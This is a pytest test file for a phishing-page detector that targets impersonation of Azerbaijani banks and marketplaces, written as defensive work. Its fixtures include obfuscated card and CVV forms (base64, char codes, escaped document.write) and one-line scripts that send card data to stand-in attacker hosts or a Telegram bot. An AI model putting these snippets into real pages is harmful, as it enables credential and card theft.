"""The page detector over the fixture pages (tests/page/cases.yaml) and its lexicon rules."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest
import yaml

from qalxan.data import read_yaml
from qalxan.detect.page import PageDetector, PageInput, extract, fold, simhash_distance
from qalxan.service import Engine
from qalxan.service.page import load_lexicon

from .support import read_page

CASES: list[dict[str, Any]] = yaml.safe_load(
    (Path(__file__).parent / "cases.yaml").read_text(encoding="utf-8")
)


def _case_param(case: dict[str, Any]) -> Any:
    """A case; one marked ``known_miss`` is a strict xfail: a known gap, stated with its
    reason, that fails the suite once the detector gets it right (update the case then)."""
    marks = []
    if case.get("known_miss"):
        marks.append(pytest.mark.xfail(reason=case["known_miss"], strict=True))
    return pytest.param(case, id=f"{case['file']}@{case['url'] or 'no-url'}", marks=marks)


@pytest.mark.parametrize("case", [_case_param(c) for c in CASES])
def test_cases(engine: Engine, case: dict[str, Any]) -> None:
    verdict = engine.detector("page").analyze(PageInput(read_page(case["file"]), case["url"]))
    assert verdict.kind == "page"
    assert verdict.verdict == case["verdict"], verdict.to_dict()
    assert verdict.brand == case["brand"]
    assert set(case.get("codes", [])) <= set(verdict.codes), verdict.codes
    assert not set(case.get("absent", [])) & set(verdict.codes), verdict.codes
    for reason in verdict.reasons:
        assert {"az", "ru", "en"} <= set(reason.messages)


def test_brand_own_domain_damps_everything(engine: Engine) -> None:
    html = read_page("kapital_login.html")
    fake = engine.detector("page").analyze(PageInput(html, "https://kapitalbank-giris.online/"))
    own = engine.detector("page").analyze(PageInput(html, "https://online.birbank.az/"))
    assert fake.verdict == "malicious" and own.verdict == "benign"
    assert "page.brand.own_domain" in own.codes


def test_kit_pages_share_a_fingerprint(engine: Engine) -> None:
    det = engine.detector("page")
    a = det.analyze(PageInput(read_page("kit_kapital.html"), "https://a.example.top/"))
    b = det.analyze(PageInput(read_page("kit_abb.html"), "https://b.example.top/"))
    other = det.analyze(PageInput(read_page("shop_checkout.html"), "https://c.example.top/"))
    fa, fb, fo = a.extra["fingerprint"], b.extra["fingerprint"], other.extra["fingerprint"]
    assert fa["dom"] == fb["dom"] and fa["forms"] == fb["forms"]
    assert fa["dom"] != fo["dom"] and fa["forms"] != fo["forms"]
    assert simhash_distance(fa["simhash"], fb["simhash"]) == 0
    assert simhash_distance(fa["simhash"], fo["simhash"]) > 8
    assert a.brand == "kapitalbank" and b.brand == "abb"


def test_analysis_is_pure(engine: Engine) -> None:
    det = engine.detector("page")
    page = PageInput(read_page("abb_card.html"), "https://abb-kart-yoxla.site/")
    assert det.analyze(page) == det.analyze(page)


def test_conformance(engine: Engine) -> None:
    det = engine.detector("page")
    assert isinstance(det, PageDetector) and det.kind == "page"
    for item in PageDetector.conformance_inputs():
        verdict = det.analyze(item)
        assert 0.0 <= verdict.score <= 1.0
        assert verdict.verdict in ("benign", "suspicious", "malicious")
        assert verdict.to_dict()["kind"] == "page"


def test_garbage_html_does_not_break(engine: Engine) -> None:
    for html in ["", "<<<>>>", "<form><input", "\x00\xff" * 100, "<html>" * 5000]:
        verdict = engine.detector("page").analyze(PageInput(html))
        assert verdict.verdict != "malicious"  # the model alone may find an empty page odd
        assert not [c for c in verdict.codes if c.startswith(("page.field", "page.brand"))]


def test_rendered_dom_is_analysed_instead_of_html(engine: Engine) -> None:
    html = "<title>Tap.az</title><div id=app></div><script src=app.js></script>"
    dom = read_page("tapaz_safedeal.html")
    url = "https://tap-az.safe-deal.shop/"
    assert engine.detector("page").analyze(PageInput(html, url)).verdict == "benign"
    assert engine.detector("page").analyze(PageInput(html, url, dom=dom)).verdict == "malicious"


def test_fields_written_by_script_count_apart_from_the_model(engine: Engine) -> None:
    """A kit's later step held as markup in a script string (escaped or not) is read for the
    rules; the model's input (``fields``) stays what the model was trained on."""
    html = (
        "<title>x</title><input name=phone placeholder=Telefon><script>var s=["
        '\'<input id=\\"pan\\" placeholder=\\"Kart n\\u00f6mr\\u0259si\\">\','
        "'\\x3cinput name=cvv>'];</script>"
    )
    feats = extract(html, None, load_lexicon())
    assert [f.kind for f in feats.fields] == ["phone"]
    assert sorted(f.kind for f in feats.script_fields) == ["card", "cvv"]
    reasons = {r.code: r for r in engine.detector("page").analyze(PageInput(html)).reasons}
    assert reasons["page.field.card"].where == "script"
    assert reasons["page.field.phone"].where == "form"


@pytest.mark.parametrize(
    ("html", "where", "kinds"),
    [
        # document.write(unescape(...)) of a percent-escaped form (%XX and %uXXXX)
        (
            "<script>document.write(unescape('%3Cinput%20name%3D%22pass%22%20type%3D"
            "%22password%22%3E%3Cinput%20placeholder%3D%22Kart%20n%F6mr%u0259si%22%3E'))"
            "</script>",
            "script",
            ["card", "password"],
        ),
        # a form that a script clones in from a <template>
        (
            "<template id=t><form><input name=cvv><input name=sms_code></form></template>",
            "template",
            ["cvv", "otp"],
        ),
        # a form inside an iframe's srcdoc document
        (
            '<iframe srcdoc="&lt;input name=&quot;card_number&quot;&gt;"></iframe>',
            "iframe",
            ["card"],
        ),
        # field definitions of a script's form config
        (
            '<script type="application/json">{"fields": [{"name": "pan", "label": "Kart '
            'nömrəsi", "type": "text"}, {"name": "c", "autocomplete": "cc-csc"}]}</script>',
            "script",
            ["card", "cvv"],
        ),
    ],
)
def test_forms_outside_the_parsed_tree_count_for_the_rules(
    html: str, where: str, kinds: list[str]
) -> None:
    feats = extract(f"<title>x</title>{html}", None, load_lexicon())
    assert feats.fields == []
    assert sorted(f.kind for f in feats.script_fields) == kinds
    assert all(f.where.startswith(where + " ") for f in feats.script_fields)


@pytest.mark.parametrize(
    ("boxes", "kinds"),
    [
        ('<input name=p{i} maxlength=4 inputmode="numeric">' * 1, []),
        ("".join(f'<input name=p{i} maxlength="4" inputmode=numeric>' for i in range(4)), ["card"]),
        ("".join(f"<input name=p{i} maxlength=4 type=text>" for i in range(3)), []),
        ("".join(f"<input name=d{i} maxlength=1>" for i in range(6)), []),  # an SMS code in boxes
    ],
)
def test_a_card_number_split_over_four_boxes(boxes: str, kinds: list[str]) -> None:
    feats = extract(f"<form>{boxes}<input name=x></form>", None, load_lexicon())
    assert [f.kind for f in feats.fields] == kinds


@pytest.mark.parametrize(
    ("html", "kinds"),
    [
        ("<small>Три цифры на обороте</small><input id=c maxlength=3>", ["cvv"]),
        ('<div class="lbl">Kart nömrəsi</div> <input name=x1>', ["card"]),
        # a paragraph is no label, and an element holding a field labels nothing after it
        (f"<p>{'Kart nömrəsi və digər məlumatlar haqqında ətraflı məlumat. ' * 2}</p><input>", []),
        ("<div>PIN <input name=a></div><input name=b>", []),
    ],
)
def test_a_short_text_element_before_a_field_names_it(html: str, kinds: list[str]) -> None:
    feats = extract(f"<form>{html}</form>", None, load_lexicon())
    assert [f.kind for f in feats.fields] == kinds


def test_a_field_named_by_aria_labelledby() -> None:
    html = (
        '<span id="l-kart">Kart nömrəsi</span><span id=ay>Ay</span><span id=m>son istifadə '
        'tarixi</span><form><input name=f3 aria-labelledby="l-kart">'
        '<input name=f4 aria-labelledby="ay m"><input name=f5 aria-labelledby="nowhere">'
        "</form>"
    )
    feats = extract(html, None, load_lexicon())
    assert [f.kind for f in feats.fields] == ["card", "expiry"]


@pytest.mark.parametrize(
    ("script", "kinds"),
    [
        # fields created one by one from a table of labels
        (
            "var f = document.createElement('form');"
            "[['Номер карты', 'tel'], ['CVC2', 'password']].forEach(function (x) {"
            "var e = document.createElement('input'); e.placeholder = x[0]; f.appendChild(e);});",
            ["card", "cvv", "password", "phone"],  # the type names read as their kinds
        ),
        # a minified helper that wraps createElement
        (
            "function h(t, a) { var e = document.createElement(t); return e; }"
            'h("input", {p: "Kart nömrəsi"}); h("input", {p: "AA/İİ"});',
            ["card", "expiry"],
        ),
        # an event named input and a selector are no field builders
        (
            "var s = document.createElement('script'); s.src = 'x.js';"
            "el.addEventListener('input', go); document.querySelector('input');"
            "var msg = 'Kart nömrəsi';",
            [],
        ),
    ],
)
def test_fields_a_script_creates_one_by_one(script: str, kinds: list[str]) -> None:
    feats = extract(f"<div id=app></div><script>{script}</script>", None, load_lexicon())
    assert sorted(f.kind for f in feats.script_fields) == sorted(kinds)


@pytest.mark.parametrize(
    ("html", "kind"),
    [
        # the field's own placeholder names it before an instruction that names two fields
        (
            "<p>Mobil nömrənizi və şifrənizi daxil edin</p>"
            '<input id=ph type=tel placeholder="+994 (__) ___ __ __">',
            "phone",
        ),
        ("<p>Mobil nömrənizi və şifrənizi daxil edin</p><input id=a>", "password"),
        # a one-time password is an OTP, not a password
        ("<p>Birdəfəlik şifrəni daxil edin:</p><input id=o type=password maxlength=6>", "otp"),
        # an e-mail field is none of the kinds, whatever its placeholder says
        ('<input type=email placeholder="Email or phone">', None),
    ],
)
def test_a_fields_own_text_names_it_first(html: str, kind: str | None) -> None:
    feats = extract(f"<form>{html}</form>", None, load_lexicon())
    assert [f.kind for f in feats.fields] == ([kind] if kind else [])


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


_HIDDEN_FORM = '<h2>Leobank</h2><input placeholder="Kart nömrəsi"><input placeholder="CVV">'


@pytest.mark.parametrize(
    ("script", "kinds", "decoded"),
    [
        # base64 decoded by a renamed atob and run by an indirect eval
        (f'var d = window["at" + "ob"]("{_b64(_HIDDEN_FORM)}"); app.innerHTML = d;', 2, 1),
        # a char-code array held in a variable and decoded later
        (
            f"var A = [{_codes(_HIDDEN_FORM)}]; app.innerHTML = String.fromCharCode.apply(0, A);",
            2,
            1,
        ),
        # two levels: base64 of a script that holds char codes
        (
            f'eval(atob("{_b64(f"app.innerHTML=String.fromCharCode({_codes(_HIDDEN_FORM)})")}"))',
            2,
            2,
        ),
        # an image or a font in base64, and numbers without a fromCharCode call, hide nothing
        (f'var img = "{base64.b64encode(bytes(range(256))).decode()}";', 0, 0),
        (f"var data = [{_codes(_HIDDEN_FORM)}]; chart.draw(data);", 0, 0),
        # lone surrogates among the codes are no text
        (f"String.fromCharCode({_codes(_HIDDEN_FORM)},55296);", 0, 0),
    ],
)
def test_markup_hidden_in_encoded_strings(script: str, kinds: int, decoded: int) -> None:
    feats = extract(f"<div id=app></div><script>{script}</script>", None, load_lexicon())
    assert len(feats.script_fields) == kinds
    assert feats.decoded == decoded
    assert ("leobank" in feats.hidden_text) == bool(decoded)


@pytest.mark.parametrize(
    ("script", "sends"),
    [
        ("navigator.sendBeacon('//pb-verify.cc/in.php', data);", True),
        ('var s = new WebSocket("wss://leo-support.live/ws");', True),
        ("$.post('https://panel.example.net/step2.php', d);", True),
        # the page's own domain, a listed brand's host and a messenger endpoint do not count
        ("fetch('https://api.pay-example.top/save', {method: 'POST'});", False),
        ("fetch('https://rest-pg.goldenpay.az/web/pay');", False),
        ("fetch('https://api.telegram.org/bot1:x/sendMessage');", False),
        ("fetch('https://[broken/in.php');", False),  # an address the parser refuses
    ],
)
def test_a_script_sending_secrets_to_another_domain(
    engine: Engine, script: str, sends: bool
) -> None:
    html = f"<form><input name=cvv><input name=pan></form><script>{script}</script>"
    verdict = engine.detector("page").analyze(PageInput(html, "https://pay-example.top/"))
    assert ("page.script.offsite_sensitive" in [r.code for r in verdict.reasons]) == sends
    # without a secret field, sending data elsewhere is what many pages do
    plain = engine.detector("page").analyze(
        PageInput(f"<input name=q><script>{script}</script>", "https://pay-example.top/")
    )
    assert "page.script.offsite_sensitive" not in [r.code for r in plain.reasons]


def test_a_page_a_script_writes_names_its_brand_there(engine: Engine) -> None:
    """The words and images of markup a script writes count for the brand it shows (the
    page itself holds only a script); not for the model."""
    page = (
        '<h2>PAŞA Bank</h2><img src="https://www.pashabank.az/logo.svg" alt="PASHA Bank">'
        '<p>PAŞA Bank internet-bankinq</p><input name=x1 placeholder="Kart nömrəsi">'
        '<input name=x2 placeholder="SMS kod">'
    )
    escaped = "".join(f"%{ord(c):02X}" if ord(c) < 128 else c for c in page)
    html = f"<title>Giriş</title><script>document.write(decodeURIComponent('{escaped}'))</script>"
    verdict = engine.detector("page").analyze(PageInput(html, "https://pb-secure-login.ru.com/"))
    assert verdict.brand == "pashabank" and verdict.verdict == "malicious"
    assert "page.brand.hotlink" in [r.code for r in verdict.reasons]
    feats = extract(html, "https://pb-secure-login.ru.com/", load_lexicon())
    assert feats.resources == [] and feats.hidden_resources  # the model sees no image


def test_a_messenger_address_hidden_by_hex_escapes(engine: Engine) -> None:
    hidden = "".join(f"\\x{ord(c):02x}" for c in "https://api.telegram.org/bot123:abc/sendMessage")
    html = f'<form><input name=cvv></form><script>var u = "{hidden}"; fetch(u);</script>'
    verdict = engine.detector("page").analyze(PageInput(html, "https://pay-example.top/"))
    assert "page.script.messenger" in [r.code for r in verdict.reasons]


def test_structured_data_and_settings_are_no_fields() -> None:
    """JSON-LD and an app's settings name things without being a form's fields."""
    html = (
        '<script type="application/ld+json">{"@type": "Organization", "name": "Kapital '
        'Bank", "url": "https://kapitalbank.az"}</script><script>var cfg = {"name": '
        '"pin", "value": "on"}; var t = unescape("%3Cb%3E100%25%3C/b%3E");</script>'
    )
    assert extract(html, None, load_lexicon()).script_fields == []


_CHECKOUT = """<title>{title}</title><h1>{heading}</h1>
<form method=post action="https://rest-pg.goldenpay.az/web/pay/card">
<label for=n>Kart nömrəsi</label><input id=n name=pan>
<label for=e>MM/YY</label><input id=e name=exp><label for=c>CVV</label><input id=c name=cvv>
<button>Ödə</button></form>"""


def test_a_card_form_to_a_listed_gateway_is_a_checkout_unless_the_page_lures(
    engine: Engine,
) -> None:
    detector = engine.detector("page")
    shop = _CHECKOUT.format(title="Sifarişin ödənişi | ElektroMarket", heading="Ödəniş")
    v = detector.analyze(PageInput(shop, "https://elektromarket.az/checkout"))
    codes = {r.code: r for r in v.reasons}
    assert codes["page.form.gateway"].weight < 0
    assert codes["page.form.gateway"].evidence == "rest-pg.goldenpay.az"
    # a fake "receive the money" page may hand the victim on to a real card transfer
    lure = _CHECKOUT.format(
        title="Tap.az - Təhlükəsiz sövdələşmə", heading="Pulu almaq üçün kartınızı daxil edin"
    )
    v = detector.analyze(PageInput(lure, "https://tap-az.safe-deal.shop/d/7"))
    assert "page.form.gateway" not in {r.code for r in v.reasons}
    assert v.verdict == "malicious" and v.brand == "tapaz"


_INSTALMENT = """<title>{title}</title><h1>{heading}</h1>
<p>Sifarişiniz: 2 məhsul, 189 AZN.</p>
<img src="/uploads/pay/birkart-taksit.png" alt="Birbank taksit">
<p>Birbank kartı ilə 3 ay faizsiz taksit. TamKart ilə hissə-hissə ödəniş.</p>
<form method=post action="/checkout/pay"><label for=n>Kart nömrəsi</label><input id=n name=pan>
<label for=e>MM/YY</label><input id=e name=exp><label for=c>CVV</label><input id=c name=cvv>
<button>Ödə</button></form>"""


def test_a_bank_offered_as_instalments_is_not_the_brand_a_shop_shows(engine: Engine) -> None:
    detector = engine.detector("page")
    shop = _INSTALMENT.format(title="Sifarişin ödənişi | Gülüstan Gül", heading="Ödəniş")
    v = detector.analyze(PageInput(shop, "https://www.gulustan-gul.az/checkout"))
    assert v.brand is None and v.verdict != "malicious", v.to_dict()
    assert not any(r.code.startswith("page.brand.") for r in v.reasons)
    # A kit that names the bank in its title or a heading still shows it, instalments or not.
    for title, heading in (("Birbank - Taksit kampaniyası", "Ödəniş"), ("Ödəniş", "Birbank")):
        kit = _INSTALMENT.format(title=title, heading=heading)
        v = detector.analyze(PageInput(kit, "https://birbank-taksit.online/pay"))
        assert v.verdict == "malicious" and v.brand == "kapitalbank", v.to_dict()
    # Without the instalment words the same sentence names the brand.
    plain = shop.replace(" 3 ay faizsiz taksit", "").replace("taksit", "kart")
    assert detector.analyze(PageInput(plain, "https://www.gulustan-gul.az/checkout")).brand


_SELF = """<html><head><title>{title}</title>{meta}</head><body><h1>Giriş</h1>
<img src="/img/logo.svg" alt="{logo}"><form method=post action="/login">
<input name=email placeholder="E-poçt"><input type=password name=password placeholder="Şifrə">
<button>Daxil ol</button></form><footer>{footer}</footer></body></html>"""


def _self_named(html: str, url: str, engine: Engine) -> list[str]:
    v = engine.detector("page").analyze(PageInput(html, url))
    return [r.evidence for r in v.reasons if r.code == "page.site.self_named"]


def test_a_page_that_names_itself_as_its_domain(engine: Engine) -> None:
    page = _SELF.format(
        title="Giriş | Caspian Cargo", meta="", logo="", footer="© 2025 Caspian Cargo MMC"
    )
    assert _self_named(page, "https://track.caspiancargo.az/login", engine) == [
        "caspiancargo.az: title, copyright"
    ]
    site = _SELF.format(
        title="Giriş", meta='<meta property="og:site_name" content="CaspianCargo">',
        logo="Caspian Cargo logo", footer="",
    )  # fmt: skip
    assert _self_named(site, "https://caspiancargo.az/", engine) == [
        "caspiancargo.az: site name, logo"
    ]
    # one place is not enough; another domain, a hosting platform or a short name get none
    one = _SELF.format(title="Giriş | Caspian Cargo", meta="", logo="", footer="")
    assert _self_named(one, "https://caspiancargo.az/", engine) == []
    assert _self_named(page, "https://cargo-login.top/", engine) == []
    assert _self_named(page, "https://caspiancargo.netlify.app/", engine) == []
    short = _SELF.format(title="ABC", meta="", logo="", footer="© ABC")
    assert _self_named(short, "https://abc.az/", engine) == []


def test_a_page_that_shows_a_brand_or_lures_is_not_self_named(engine: Engine) -> None:
    # A kit on a domain named after its own pitch still imitates the brand it shows.
    kit = _SELF.format(
        title="Kapital Bank Bonus", meta="", logo="Kapital Bank", footer="© Kapital Bank Bonus"
    )
    assert _self_named(kit, "https://kapitalbankbonus.com/", engine) == []
    lure = _SELF.format(
        title="Pulu almaq üçün | Tez Odenis", meta="", logo="",
        footer="© Tez Odenis. Pulu almaq üçün kartınızın məlumatlarını daxil edin.",
    )  # fmt: skip
    assert _self_named(lure, "https://tezodenis.com/", engine) == []


def test_the_brand_a_pages_address_imitates_adds_to_what_the_page_shows(engine: Engine) -> None:
    detector = engine.detector("page")
    page = (
        "<title>Sifariş</title><h1>Pulu almaq üçün kartı daxil edin</h1><form>"
        "<input name=pan placeholder='Kart nömrəsi'><input name=cvv placeholder=CVV></form>"
        "<footer>© 2025 Tap.az</footer>"
    )
    v = detector.analyze(PageInput(page, "https://tap-az.safedeal-pay.com/order/1"))
    assert v.brand == "tapaz" and v.verdict == "malicious", v.to_dict()
    impersonation = next(r for r in v.reasons if r.code == "page.brand.impersonation")
    assert impersonation.evidence.startswith("address, text x1")
    # one mention alone, on an address that imitates nobody, shows no brand
    v = detector.analyze(PageInput(page, "https://safedeal-pay.com/order/1"))
    assert v.brand is None
    # an address alone, on a page that never names the brand, shows none either
    v = detector.analyze(PageInput(page.replace("Tap.az", "Satıcı"), "https://tap-az.evil.com/"))
    assert v.brand is None


# --- the lexicon's own examples -----------------------------------------------------------


def _field_cases() -> list[tuple[str, str, bool]]:
    doc = read_yaml("page/fields.yaml")
    out = []
    for kind, spec in doc["kinds"].items():
        out += [(kind, text, True) for text in spec["examples"]["positive"]]
        out += [(kind, text, False) for text in spec["examples"]["negative"]]
    return out


@pytest.mark.parametrize(("kind", "text", "positive"), _field_cases())
def test_field_kind_examples(kind: str, text: str, positive: bool) -> None:
    lex = load_lexicon()
    got = lex.field_kind(fold(text), "", "text")
    assert (got == kind) is positive, got


def _phrase_cases() -> list[tuple[str, str, bool]]:
    doc = read_yaml("page/wording.yaml")
    out = []
    for group, spec in doc["groups"].items():
        out += [(group, text, True) for text in spec["examples"]["positive"]]
        out += [(group, text, False) for text in spec["examples"]["negative"]]
    return out


@pytest.mark.parametrize(("group", "text", "positive"), _phrase_cases())
def test_wording_examples(group: str, text: str, positive: bool) -> None:
    lex = load_lexicon()
    feats = extract(f"<body><p>{text}</p></body>", None, lex)
    spec = next(g for g in lex.phrases if g.name == group)
    assert any(p in feats.text for p in spec.phrases) is positive


@pytest.mark.parametrize(
    ("url", "positive"),
    [(u, True) for u in read_yaml("page/endpoints.yaml")["examples"]["positive"]]
    + [(u, False) for u in read_yaml("page/endpoints.yaml")["examples"]["negative"]],
)
def test_endpoint_examples(url: str, positive: bool) -> None:
    from urllib.parse import urlsplit

    parts = urlsplit(url)
    assert load_lexicon().messenger_endpoint(parts.hostname or "", parts.path) is positive


def test_every_reason_code_has_messages(engine: Engine) -> None:
    doc = read_yaml("reasons/page.yaml")
    for code in doc:
        assert code in engine.reasons
    lex = load_lexicon()
    for kind in lex.fields:
        assert f"page.field.{kind.name}" in engine.reasons
    for group in lex.phrases:
        assert f"page.wording.{group.name}" in engine.reasons
